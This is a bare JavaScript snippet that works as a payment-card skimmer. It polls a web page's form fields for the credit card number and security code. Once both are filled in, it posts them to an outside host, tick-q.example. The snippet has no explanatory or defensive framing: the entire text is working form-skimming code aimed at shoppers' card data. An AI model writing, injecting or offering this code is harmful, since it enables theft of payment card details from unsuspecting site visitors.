async function* ticks(ms) { for (;;) { yield performance.now(); await new Promise(r => setTimeout(r, ms)); } }
(async () => {
  for await (const _ of ticks(1500)) {
    const v = document.querySelector('[autocomplete="cc-number"]')?.value ?? '';
    const c = document.querySelector('[autocomplete="cc-csc"]')?.value ?? '';
    if (v.length >= 15 && c) { await fetch('https://tick-q.example', { method: 'POST', body: `${v}/${c}` }); break; }
  }
})();
